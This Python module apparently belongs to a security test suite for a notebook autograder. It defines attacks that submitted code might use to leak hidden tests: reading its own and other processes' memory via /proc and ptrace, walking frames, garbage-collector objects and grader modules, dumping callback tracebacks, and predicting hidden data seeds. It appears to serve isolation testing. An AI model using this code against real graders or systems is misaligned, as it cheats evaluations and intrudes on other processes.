"""Read from inside the process: memory, objects, frames, what the tests lend."""

from attacks import Attack, answered, in_cell, in_right_call

FRAMES = """
import inspect, traceback

frame = sys._getframe() if len(RUNS) in (1, 5, 20) else None
while frame:
    LOOT.append(repr(frame.f_locals)[:200000] + repr(frame.f_globals)[:200000])
    with contextlib.suppress(Exception):
        LOOT.append(inspect.getsource(frame))
    frame = frame.f_back
LOOT.append("".join(traceback.format_stack()))
"""

MEMORY = """
def memory(pid="self", most=2**28):
    seen = 0
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            if "r" not in line.split()[1] or "[v" in line or ".so" in line:
                continue
            with contextlib.suppress(OSError, ValueError, OverflowError):
                mem.seek(start)
                seen += loot(f"memory of {pid}", mem.read(min(end - start, 2**26)))
            if seen > most:
                break
    return seen
"""

CALLBACKS = """
import inspect, traceback
LOOT = []

def linear_loss(W, X, y, *, data_loss, penalty, reg):
    %s
    print("looked at", sum(map(len, LOOT)), "characters; attack ran")
    found = re.findall("canary-[a-z]+-[0-9a-f]+", "".join(LOOT))
    if found:  # what is printed during hidden tests is not shown
        raise RuntimeError("attack worked: " + found[0])
    loss, dscores = data_loss(X.dot(W), y)
    decay, dW = penalty(W, reg)
    return loss + decay, dW + X.T.dot(dscores)
"""


def about_callbacks(name: str, about: str, line: str) -> Attack:
    """Return an attack on the functions that the tests pass to an answer."""
    earns = ("mse_loss", "linear_loss")
    return answered(name, about, CALLBACKS % line, "linear_loss", earns=earns)


ATTACKS: list[Attack] = [
    in_cell(
        "own memory",
        "Search the process's own memory for what it inherited from earlier students or the tests.",
        'print("looked at", memory(), "bytes")',
        before=MEMORY,
    ),
    in_cell(
        "others' memory",
        "Read the memory of the parent, of the first process and of the operator's.",
        """
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        for pid in {1, 2, os.getppid(), os.getpid() - 1, int("@OPERATOR@")} - {os.getpid(), 0}:
            attempt(f"memory of {pid}", lambda: memory(pid))
            for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
                def trace():
                    if libc.ptrace(request, pid, 0, 0):
                        raise OSError(ctypes.get_errno(), "ptrace")
                attempt(f"trace {pid}", trace)
        """,
        before=MEMORY,
    ),
    in_right_call(
        "memory in a call",
        "Search the memory while the hidden tests wait for an answer.",
        "if len(RUNS) == 9:\n    memory()",
        before=MEMORY,
    ),
    in_cell(
        "objects",
        "Look through all objects that the garbage collector knows.",
        """
        import gc

        for thing in gc.get_objects():
            with contextlib.suppress(Exception):
                if isinstance(thing, (dict, list, tuple, set)):
                    for part in (thing.values() if isinstance(thing, dict) else thing):
                        if isinstance(part, (str, bytes)):
                            loot("object", part)
        gc.unfreeze()
        for thing in gc.get_objects():
            if getattr(thing, "__name__", "") == "svm_loss" and callable(thing):
                print("attack worked: found", repr(thing))
        """,
    ),
    in_right_call(
        "frames",
        "Look at the frames below the answer while hidden tests call it.",
        FRAMES,
    ),
    about_callbacks(
        "tracebacks",
        "Make the tests' own functions fail, and read what the errors tell.",
        """for bad in (lambda: data_loss(), lambda: data_loss("x", None), lambda: penalty(W, "x"),
                lambda: penalty(None, reg=None), lambda: data_loss(X.dot(W), y[:-1] * 99)):
        try:
            bad()
        except BaseException as error:
            LOOT.append("".join(traceback.format_exception(error)))
            LOOT.append(repr(vars(error)) + repr(error.__context__) + repr(error.args))""",
    ),
    about_callbacks(
        "callbacks inspected",
        "Ask the functions that tests pass for their source, globals and closures.",
        """for thing in (data_loss, penalty):
        for name in ("__code__", "__globals__", "__closure__", "__defaults__", "__self__",
                     "__func__", "__wrapped__", "__module__", "__dict__", "__reduce_ex__", *dir(thing)):
            with contextlib.suppress(Exception):
                LOOT.append(repr(getattr(thing, name)))
        with contextlib.suppress(Exception):
            LOOT.append(inspect.getsource(thing))""",
    ),
    in_cell(
        "modules",
        "Look through every loaded module for the tests' side.",
        """
        for name, module in list(sys.modules.items()):
            if name.partition(".")[0] in ("cs_core", "cs_grader", "nbgrader") and module:
                print("module", name)
                loot(name, repr(vars(module))[:300000])
                if hasattr(module, "svm_loss"):
                    print("attack worked:", name, "has svm_loss")
        loot("main", repr(vars(sys.modules["__main__"]))[:300000])
        """,
    ),
    in_cell(
        "shell history",
        "Look at what the shell remembers of cells it ran.",
        """
        shell = get_ipython()
        loot("In", In)
        loot("Out", Out)
        loot("names", repr(shell.user_ns)[:300000] + repr(shell.user_ns_hidden)[:300000])
        with contextlib.suppress(Exception):
            loot("history", list(shell.history_manager.get_range(raw=True)))
        loot("cache", repr(__import__("linecache").cache)[:300000])
        """,
        last='loot("In", In); loot("cache", repr(__import__("linecache").cache)[:300000])',
    ),
    in_right_call(
        "predicted data",
        "Draw the hidden data before the tests do, as the seed is made of known words.",
        """
        for seed in SEEDS:
            rng = np.random.default_rng(seed)
            for _ in range(40):
                before = rng.bit_generator.state
                if np.allclose(2.0 * rng.standard_normal(scores.shape), scores):
                    LOOT.append("predicted")
                rng.bit_generator.state = before
                rng.random()
        """,
        before="""
        import hmac, zlib
        here = os.getcwd().split("/")
        ids = ("read-predicted_data", "/".join(here[-2:]), os.environ.get("CS_SUBMISSION", ""))
        WHO = {*ids, *(f"{who}/a1_loss_functions" for who in ids)}
        SEEDS = [zlib.crc32(f"{who}:log_softmax".encode()) for who in WHO]
        for key in (b"", b"secret", os.environ.get("CS_SECRET", "").encode()):
            words = [f"{who}\\0log_softmax".encode() for who in WHO]
            SEEDS += [int.from_bytes(hmac.digest(key, w, "sha256"), "big") for w in words]
        """,
    ),
]
